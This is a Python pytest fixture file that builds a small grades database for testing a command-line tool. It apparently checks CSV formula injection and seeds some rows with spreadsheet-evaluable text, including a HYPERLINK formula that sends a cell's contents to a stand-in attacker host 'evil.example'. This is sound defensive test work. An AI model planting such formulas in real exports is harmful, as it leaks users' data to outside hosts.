"""A small published database, and the command line run on it in a process of its own."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.commands import run_in
from tests.warehouse.data_folder import ANSWER, SECTION, TOTAL, DataFolder, csv_text

Run = Callable[..., "subprocess.CompletedProcess[bytes]"]

FORMULA = '=HYPERLINK("http://evil.example/"&A1;"click")'


@pytest.fixture(scope="session")
def data_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Grades of four agents of two teams by three graders, some with text that a spreadsheet would evaluate."""
    data = DataFolder(tmp_path_factory.mktemp("cli") / "data")
    names = ("Ann", "=1+1", "@Bob", "Cy Young")
    grades = [
        {
            "gradable_id": f"00{ticket}",
            "agent_id": f"07{ticket % 4}",
            "agent_name": names[ticket % 4],
            "agent_email": f"agent{ticket % 4}@example.com",
            "grader": f"grader{ticket % 3}@example.com",
            "date_reported_as": f'="2026-01-{1 + ticket % 6:02} 10:00:00"',
            "score": str(60 + ticket * 7 % 41),
        }
        for ticket in range(120)
    ]
    data.land_rows(
        total_scores=[
            TOTAL | each | {"rubric_score": each["score"], "comment": FORMULA if number % 50 == 0 else "Fine"}
            for number, each in enumerate(grades)
        ],
        section_scores=[SECTION | each for each in grades],
        individual_answers=[ANSWER | each for each in grades],
    )
    members = [
        {"group_id": f"g{n % 2}", "group_name": f"Team {n % 2}", "agent_ids": f"07{n}", "agent_name": names[n]}
        for n in range(4)
    ]
    data.land(csv_text("agent_groups", members).encode(), kind="groups")
    data.master.publish()
    data.master.close()
    return data.folder


@pytest.fixture(scope="session")
def run(data_folder: Path) -> Run:
    """Runs a command on `data_folder`; its output is bytes."""

    def command(*words: str, cwd: Path | None = None, **environment: str) -> subprocess.CompletedProcess[bytes]:
        given = {"MAESTRO_DATA": str(data_folder), "COLUMNS": "200", **environment}
        return run_in(given, *words, folder=cwd)

    return command
